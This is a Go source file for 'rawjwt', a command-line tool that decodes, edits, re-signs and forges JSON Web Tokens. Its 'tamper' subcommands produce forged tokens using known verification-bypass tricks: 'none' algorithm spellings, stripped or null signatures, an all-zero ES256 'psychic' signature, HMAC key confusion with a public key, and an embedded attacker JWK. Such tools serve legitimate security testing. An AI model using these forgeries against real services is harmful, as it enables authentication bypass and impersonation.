package main

import (
	"bytes"
	"crypto"
	"fmt"
	"io"
	"os"
	"strings"

	"github.com/picatz/rawjwt/pkg/diag"
	"github.com/picatz/rawjwt/pkg/jwa"
	"github.com/picatz/rawjwt/pkg/keyutil"
	"github.com/picatz/rawjwt/pkg/raw"
	"github.com/picatz/rawjwt/pkg/signer"
	"github.com/picatz/rawjwt/pkg/tamper"
	"github.com/sirupsen/logrus"
	"github.com/spf13/cobra"
	"github.com/spf13/pflag"
)

type globalOptions struct {
	logLevel  string
	logFormat string

	logger *logrus.Logger
}

func (g *globalOptions) addFlags(fs *pflag.FlagSet) {
	fs.StringVar(&g.logLevel, "log-level", "warn", "diagnostic log level (debug, info, warn, error)")
	fs.StringVar(&g.logFormat, "log-format", "text", "diagnostic log format (text, json)")
}

// parse reads the token argument, or standard input for "-".
func (g *globalOptions) parse(cmd *cobra.Command, arg string) (*raw.Token, error) {
	if arg == "-" {
		b, err := io.ReadAll(cmd.InOrStdin())
		if err != nil {
			return nil, fmt.Errorf("failed to read token from stdin: %w", err)
		}
		arg = string(b)
	}

	return raw.Parse(strings.TrimSpace(arg), raw.WithDiagnostics(diag.Logrus(g.logger)))
}

func newRootCommand() *cobra.Command {
	g := &globalOptions{}

	root := &cobra.Command{
		Use:           "rawjwt",
		Short:         "Inspect, edit, re-sign and forge JWTs without validating them",
		SilenceUsage:  true,
		SilenceErrors: true,
		PersistentPreRunE: func(cmd *cobra.Command, args []string) error {
			logger, err := newLogger(g.logLevel, g.logFormat, cmd.ErrOrStderr())
			if err != nil {
				return err
			}
			g.logger = logger
			return nil
		},
	}

	g.addFlags(root.PersistentFlags())

	root.AddCommand(
		newDecodeCommand(g),
		newSetCommand(g),
		newSignCommand(g),
		newTamperCommand(g),
	)

	return root
}

func newDecodeCommand(g *globalOptions) *cobra.Command {
	return &cobra.Command{
		Use:   "decode <token>",
		Short: "Print the raw header, payload and signature of a token",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			token, err := g.parse(cmd, args[0])
			if err != nil {
				return err
			}

			out := cmd.OutOrStdout()
			fmt.Fprintf(out, "header:    %s\n", token.HeaderJSON())
			fmt.Fprintf(out, "payload:   %s\n", token.PayloadJSON())
			fmt.Fprintf(out, "signature: %s\n", token.Signature())
			fmt.Fprintf(out, "original:  %s\n", token.Original())
			return nil
		},
	}
}

func newSetCommand(g *globalOptions) *cobra.Command {
	var (
		headerFields  []string
		payloadFields []string
		rawValues     bool
	)

	cmd := &cobra.Command{
		Use:   "set <token>",
		Short: "Edit header or payload fields, keeping the original signature",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			token, err := g.parse(cmd, args[0])
			if err != nil {
				return err
			}

			for _, kv := range headerFields {
				if err := setField(kv, rawValues, token.SetHeaderField, token.SetHeaderFieldRaw); err != nil {
					return err
				}
			}
			for _, kv := range payloadFields {
				if err := setField(kv, rawValues, token.SetPayloadField, token.SetPayloadFieldRaw); err != nil {
					return err
				}
			}

			fmt.Fprintln(cmd.OutOrStdout(), token)
			return nil
		},
	}

	cmd.Flags().StringArrayVar(&headerFields, "header", nil, "header field to set, as path=value (repeatable)")
	cmd.Flags().StringArrayVar(&payloadFields, "payload", nil, "payload field to set, as path=value (repeatable)")
	cmd.Flags().BoolVar(&rawValues, "raw", false, "insert values as raw JSON instead of strings")

	return cmd
}

func setField(kv string, rawValue bool, set func(string, any) error, setRaw func(string, string) error) error {
	path, value, ok := strings.Cut(kv, "=")
	if !ok || path == "" {
		return fmt.Errorf("invalid field %q, expected path=value", kv)
	}
	if rawValue {
		return setRaw(path, value)
	}
	return set(path, value)
}

type keyOptions struct {
	alg     string
	secret  string
	keyFile string
}

func (k *keyOptions) addFlags(fs *pflag.FlagSet, defaultAlg string) {
	fs.StringVar(&k.alg, "alg", defaultAlg, "signing algorithm ("+strings.Join(signer.Algorithms(), ", ")+")")
	fs.StringVar(&k.secret, "secret", "", "HMAC secret")
	fs.StringVar(&k.keyFile, "key-file", "", "PEM encoded key file (private key, or HMAC secret bytes)")
}

// key returns the key material the flags describe.
func (k *keyOptions) key() (any, error) {
	if k.secret != "" && k.keyFile != "" {
		return nil, fmt.Errorf("--secret and --key-file are mutually exclusive")
	}

	if k.secret != "" {
		return []byte(k.secret), nil
	}

	if k.keyFile == "" {
		return nil, nil
	}

	b, err := os.ReadFile(k.keyFile)
	if err != nil {
		return nil, fmt.Errorf("failed to read key file: %w", err)
	}

	if jwa.Symmetric(k.alg) {
		return b, nil
	}

	return keyutil.ParsePrivateKey(bytes.NewReader(b))
}

func (k *keyOptions) signer() (signer.Signer, error) {
	key, err := k.key()
	if err != nil {
		return nil, err
	}
	return signer.New(k.alg, key)
}

func newSignCommand(g *globalOptions) *cobra.Command {
	var (
		keys    keyOptions
		keepAlg bool
	)

	cmd := &cobra.Command{
		Use:   "sign <token>",
		Short: "Recompute the signature over the current header and payload",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			token, err := g.parse(cmd, args[0])
			if err != nil {
				return err
			}

			s, err := keys.signer()
			if err != nil {
				return err
			}

			if keepAlg {
				err = token.CalculateAndSetSignature(s)
			} else {
				token, err = tamper.Resign(token, s)
			}
			if err != nil {
				return err
			}

			fmt.Fprintln(cmd.OutOrStdout(), token)
			return nil
		},
	}

	keys.addFlags(cmd.Flags(), jwa.HS256)
	cmd.Flags().BoolVar(&keepAlg, "keep-alg", false, "keep the header's declared algorithm instead of setting it to --alg")

	return cmd
}

func newTamperCommand(g *globalOptions) *cobra.Command {
	cmd := &cobra.Command{
		Use:   "tamper",
		Short: "Build forged variants of a token",
	}

	simple := func(use, short string, fn func(*raw.Token) ([]*raw.Token, error)) *cobra.Command {
		return &cobra.Command{
			Use:   use + " <token>",
			Short: short,
			Args:  cobra.ExactArgs(1),
			RunE: func(cmd *cobra.Command, args []string) error {
				token, err := g.parse(cmd, args[0])
				if err != nil {
					return err
				}
				variants, err := fn(token)
				if err != nil {
					return err
				}
				for _, v := range variants {
					fmt.Fprintln(cmd.OutOrStdout(), v)
				}
				return nil
			},
		}
	}

	one := func(t *raw.Token) []*raw.Token { return []*raw.Token{t} }

	cmd.AddCommand(
		simple("none", `Declare each spelling of "none" and drop the signature`, tamper.AllNoneVariants),
		simple("strip", "Drop the signature", func(t *raw.Token) ([]*raw.Token, error) {
			return one(tamper.StripSignature(t)), nil
		}),
		simple("null", "Replace the signature with a zero byte", func(t *raw.Token) ([]*raw.Token, error) {
			return one(tamper.NullSignature(t)), nil
		}),
		simple("psychic", "Declare ES256 with an all-zero signature", func(t *raw.Token) ([]*raw.Token, error) {
			c, err := tamper.PsychicSignature(t)
			if err != nil {
				return nil, err
			}
			return one(c), nil
		}),
		newConfusionCommand(g),
		newEmbeddedJWKCommand(g),
	)

	return cmd
}

func newConfusionCommand(g *globalOptions) *cobra.Command {
	var (
		alg           string
		publicKeyFile string
		pkix          bool
	)

	cmd := &cobra.Command{
		Use:   "confusion <token>",
		Short: "Sign with HMAC using the verifier's public key as the secret",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			if publicKeyFile == "" {
				return fmt.Errorf("--public-key is required")
			}

			token, err := g.parse(cmd, args[0])
			if err != nil {
				return err
			}

			publicKeyPEM, err := os.ReadFile(publicKeyFile)
			if err != nil {
				return fmt.Errorf("failed to read public key: %w", err)
			}

			if pkix {
				pub, err := keyutil.ParsePublicKey(bytes.NewReader(publicKeyPEM))
				if err != nil {
					return err
				}
				publicKeyPEM, err = keyutil.MarshalPublicKey(pub)
				if err != nil {
					return err
				}
			}

			forged, err := tamper.KeyConfusion(token, alg, publicKeyPEM)
			if err != nil {
				return err
			}

			fmt.Fprintln(cmd.OutOrStdout(), forged)
			return nil
		},
	}

	cmd.Flags().StringVar(&alg, "alg", jwa.HS256, "HMAC algorithm to declare")
	cmd.Flags().StringVar(&publicKeyFile, "public-key", "", "PEM file whose exact bytes become the HMAC secret")
	cmd.Flags().BoolVar(&pkix, "pkix", false, "re-encode the key (PKIX, PKCS #1 or certificate PEM) as PKIX PEM before use")

	return cmd
}

func newEmbeddedJWKCommand(g *globalOptions) *cobra.Command {
	var keys keyOptions

	cmd := &cobra.Command{
		Use:   "jwk <token>",
		Short: "Sign with an attacker key and embed its public JWK in the header",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			token, err := g.parse(cmd, args[0])
			if err != nil {
				return err
			}

			key, err := keys.key()
			if err != nil {
				return err
			}

			if key == nil {
				_, key, err = keyutil.NewRSAKeyPair()
				if err != nil {
					return err
				}
				keys.alg = jwa.RS256
				g.logger.Info("no --key-file given, generated an RSA key")
			}

			privateKey, ok := key.(crypto.Signer)
			if !ok {
				return fmt.Errorf("--key-file must contain an asymmetric private key")
			}

			forged, err := tamper.EmbeddedJWK(token, privateKey, keys.alg)
			if err != nil {
				return err
			}

			fmt.Fprintln(cmd.OutOrStdout(), forged)
			return nil
		},
	}

	keys.addFlags(cmd.Flags(), jwa.RS256)

	return cmd
}
